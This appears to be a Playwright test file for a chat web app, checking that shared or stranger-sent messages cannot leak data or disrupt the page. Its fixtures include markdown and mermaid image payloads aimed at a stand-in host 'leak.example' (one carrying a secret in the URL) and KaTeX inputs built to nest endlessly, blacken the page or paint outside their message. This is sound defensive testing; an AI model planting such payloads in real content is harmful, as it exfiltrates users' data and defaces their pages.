import type { Page } from '@playwright/test';
import sharp from 'sharp';
import { expect, test } from '#tests/support/app.ts';
import { TestClient } from '#tests/support/client.ts';

/** What stands in others' texts does nothing by itself: no link spends, no picture is fetched. */

/** A public session with one answer of these words. */
const told = async (client: TestClient, ai: string): Promise<string> => {
  const message = { id: 1, prev: 0, shown: true, human: '看看', ai, state: 'done', model: '' };
  const { uuid } = await client.call('importSessions', {
    data: { queqiao: 1, sessions: [{ title: '看看', messages: [message] }] },
  });
  await client.call('setSession', { session_id: uuid ?? '', private: 0 });
  return uuid ?? '';
};

/** A number in letters, for the name of a macro. */
const name = (at: number): string =>
  Array.from(String(at), (digit) => String.fromCharCode(97 + Number(digit))).join('');

/** Requests that leave for other servers; they are answered with nothing. */
const leaving = async (page: Page): Promise<string[]> => {
  const asked: string[] = [];
  await page.route(/^https?:\/\/(?!127\.0\.0\.1|localhost)/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
};

test('a link from outside fills the box and spends nothing', async ({ app, page, person }) => {
  await app.enterAs(person);
  const { uuid } = await person.client.call('newSession', { type: 0 });
  await page.goto(`/chat?uuid=${uuid}&prompt=${encodeURIComponent('花掉一点')}&send=1`);
  await expect(app.question).toHaveValue('花掉一点');
  await expect(page).not.toHaveURL(/send=/);
  await page.waitForTimeout(600);
  expect((await person.client.call('historyList', { session_id: uuid })).total).toBe(0);
  // The press is at hand.
  await expect(app.sendButton).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(app.log).toContainText('花掉一点');
});

test('pictures of other servers wait for a press, and a drawing loads none', async ({
  app,
  page,
  person,
}) => {
  const asked = await leaving(page);
  const drawing = [
    '```mermaid',
    "%%{init: {'themeCSS': '.node rect { background: url(https://leak.example/css.png) }'}}%%",
    'flowchart LR',
    '  a["开始"] --> b@{ img: "https://leak.example/node.png", label: "节点", h: 60 }',
    '```',
  ].join('\n');
  const uuid = await told(
    person.client,
    `![秘密](https://leak.example/a.png?said=secret)\n\n${drawing}\n\n完了`,
  );
  await app.enterAs(person);
  await page.goto(`/chat?uuid=${uuid}`);
  await expect(app.log).toContainText('完了');
  const chip = page.getByRole('button', { name: /加载 leak\.example 的图片/ });
  await expect(chip).toBeVisible();
  await expect(page.locator('[data-diagram], [data-code]').first()).toBeVisible();
  await page.waitForTimeout(800);
  expect(asked).toEqual([]);
  const call = page.waitForRequest('**/api/foreign_image');
  await chip.click();
  expect((await call).postDataJSON()).toEqual({ url: 'https://leak.example/a.png?said=secret' });
  await expect(chip).toContainText('取不到');
  expect(asked).toEqual([]);
});

test('formulas and diagrams that nest without end or blacken the page are shown as their source', async ({
  app,
  page,
  person,
}) => {
  // What is out of sight is not drawn at all.
  await page.setViewportSize({ width: 412, height: 4000 });
  const nested = (open: string, close: string) => open.repeat(150) + 'x' + close.repeat(150);
  const diagram = `${'subgraph a\n'.repeat(30)}b-->c\n${'end\n'.repeat(30)}`;
  // Macros nest what their text does not.
  const macros = Array.from(
    { length: 80 },
    (_, at) => `\\def\\m${name(at)}{x^{\\m${name(at + 1)}}}`,
  );
  const formulas = [
    nested('x^{', '}'),
    nested('\\frac{1}{', '}'),
    nested('\\sqrt{', '}'),
    // As black as the page, at once or by pieces.
    '\\rule{9999em}{9999em}',
    '\\rule{99em}{0.9em}'.repeat(20),
    `${macros.join('')}\\def\\m${name(80)}{x}\\m${name(0)}`,
    '\\frac{1}{2}',
  ];
  const uuid = await told(
    person.client,
    `\`\`\`mermaid\nflowchart LR\n${diagram}\`\`\`\n\n${formulas.map((each) => `$$\n${each}\n$$`).join('\n\n')}\n\n看完了`,
  );
  await app.enterAs(person);
  await page.goto(`/chat?uuid=${uuid}`);
  await expect(app.log).toContainText('看完了');
  await expect(app.log.locator('.katex').first()).toBeVisible();
  await page.waitForTimeout(800);
  // The tab lives, and only what is flat was drawn.
  expect(await app.log.locator('[data-formula]').count()).toBe(formulas.length);
  expect(await app.log.locator('[data-formula][data-drawn]').count()).toBe(1);
});

test('a formula that is raised, lowered and drawn back paints nowhere but in its message', async ({
  app,
  page,
  person,
}) => {
  const red = '\\textcolor{#ff0000}{\\rule{4em}{4em}}';
  // Without a height or a width of their own, by steps that are each allowed.
  const moved = (by: string, inner: string) => `\\smash{\\raisebox{${by}}{${inner}}}`;
  const formulas = [
    moved('6em', moved('6em', red)),
    moved('-6em', moved('-6em', red)),
    `\\kern-6em${red}`,
  ];
  const uuid = await told(person.client, formulas.map((each) => `看 $${each}$`).join('\n\n'));
  await app.enterAs(person);
  await page.goto(`/chat?uuid=${uuid}`);
  const drawn = app.log.locator('[data-formula][data-drawn]');
  await expect(drawn).toHaveCount(formulas.length);
  const box = await drawn.first().locator('xpath=ancestor::p/../..').boundingBox();
  const { data, info } = await sharp(await page.screenshot({ scale: 'css' }))
    .removeAlpha()
    .raw()
    .toBuffer({ resolveWithObject: true });
  const outside: [x: number, y: number][] = [];
  for (let y = 0; y < info.height; y += 1)
    for (let x = 0; x < info.width; x += 1) {
      const at = (y * info.width + x) * info.channels;
      const isRed = data[at] === 255 && data[at + 1] === 0 && data[at + 2] === 0;
      const across = box && x >= box.x - 5 && x <= box.x + box.width + 5;
      const down = box && y >= box.y - 5 && y <= box.y + box.height + 5;
      if (isRed && !(across && down)) outside.push([x, y]);
    }
  expect(box).not.toBeNull();
  expect([outside.length, outside[0]]).toEqual([0, undefined]);
});

test('a stranger’s words in a public question, a private message and a share draw and load nothing', async ({
  app,
  page,
  person,
}) => {
  const asked = await leaving(page);
  const stranger = await TestClient.register(person.client.baseURL);
  const nested = `${'x^{'.repeat(150)}x${'}'.repeat(150)}`.padEnd(605, 'y');
  const words = `![秘密](https://leak.example/a.png)\n\n$$\n${nested}\n$$\n\n行内 $${nested}$\n\n看完了`;
  const question = await stranger.call('newSession', { type: 2, private: 0 });
  await stranger.call('sendMessage', { session_id: question.uuid, title: '深的', msg: words });
  const { id } = await person.client.call('userInfo', {});
  const { uuid: talk } = await stranger.call('newFriend', { friend_user_id: id });
  await stranger.call('sendMessage', { session_id: talk, msg: words });
  const shared = await told(stranger, words);
  const { key } = await stranger.call('shareSession', { session_id: shared });

  await app.enterAs(person);
  for (const place of [`/chat?uuid=${question.uuid}`, `/chat?uuid=${talk}`, `/share?key=${key}`]) {
    await page.goto(place);
    const log = page.getByRole('log').first();
    await expect(log, place).toContainText('看完了');
    await expect(log.locator('[data-drawn]'), place).toHaveCount(0);
    expect(await page.evaluate(() => 1 + 1), place).toBe(2);
    if (!place.includes(talk))
      await expect(
        log.getByRole('button', { name: /加载 leak\.example 的图片/ }).first(),
        place,
      ).toBeVisible();
  }
  expect(asked).toEqual([]);
});
